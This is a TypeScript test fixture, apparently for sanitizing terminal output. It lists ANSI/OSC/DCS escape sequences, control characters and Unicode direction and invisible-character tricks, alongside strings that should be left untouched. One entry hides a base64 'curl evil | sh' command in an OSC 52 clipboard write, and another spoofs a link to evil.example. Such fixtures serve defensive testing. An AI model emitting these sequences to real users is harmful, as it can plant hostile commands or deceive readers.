/** What has been sent to terminals to deceive or take over whoever reads them. */
export const ATTACKS: Readonly<Record<string, string>> = {
  'sets the window title': '\u001b]0;owned\u0007',
  'writes the clipboard (OSC 52)': '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  'the same, ended by ST': '\u001b]52;c;Y3VybA==\u001b\\',
  'a link that shows another address (OSC 8)': '\u001b]8;;https://evil.example\u001b\\https://good.example\u001b]8;;\u001b\\',
  'clears the screen': '\u001b[2J\u001b[H',
  'writes over the line above': '\u001b[1A\u001b[2Kall is well',
  'writes over its own line': 'deleted everything\rnothing happened   ',
  'backspaces over what was said': 'no\b\byes',
  'conceals what follows': '\u001b[8mhidden\u001b[28m',
  'asks for the terminal’s answer (DSR)': '\u001b[6n',
  'reports the window title as typed input': '\u001b[21t',
  'defines a key (DECUDK)': '\u001bP1;1|17/6c730d\u001b\\',
  'an image (sixel)': '\u001bPq#0;2;0;0;0#0~~@@vv\u001b\\',
  'an image (iTerm2)': '\u001b]1337;File=inline=1:AAAA\u0007',
  'switches to the other screen': '\u001b[?1049h',
  'hides the cursor, takes the mouse': '\u001b[?25l\u001b[?1000h',
  'another character set': '\u001b(0lqqk\u000f\u000e',
  'resets the terminal': '\u001bc',
  'CSI in one character': '\u009b2J',
  'OSC in one character': '\u009d0;owned\u009c',
  'DCS in one character': '\u0090q~~\u009c',
  'next line (C1)': 'one\u0085two',
  rings: '\u0007',
  'NUL and DEL': 'a\u0000b\u007fc',
  'form feed and vertical tab': 'a\u000cb\u000bc',
  'text from right to left (RLO)': 'invoice\u202egnp.exe',
  'embeddings and isolates': '\u202a\u202b\u202d\u2066\u2067\u2068x\u2069\u202c',
  'line and paragraph separators': 'one\u2028two\u2029three',
  'invisible tags': 'x\u{e0041}\u{e0042}\u{e007f}',
};

/** In names as well: what nobody sees, and what looks like another line. */
export const IN_NAMES: Readonly<Record<string, string>> = {
  'a zero-width space': 'ad\u200bmin',
  joiners: 'ad\u200c\u200dmin',
  'a byte order mark': '\ufeffadmin',
  'a soft hyphen': 'ad\u00admin',
  'a word joiner': 'ad\u2060min',
  'marks of direction': '\u200eadmin\u200f\u061c',
  'another line': 'admin\nroot  ready',
  'another column': 'admin\tready',
};

/** Text that stays as it is. */
export const HONEST: readonly string[] = [
  'Grüße, 你好, שלום, مرحبا, नमस्ते',
  'tabs\tand\nlines\r\nof any kind',
  'a family: 👩\u200d👩\u200d👧, Persian: می\u200cخواهم',
  '100 % "quoted" \\u001b as text',
];
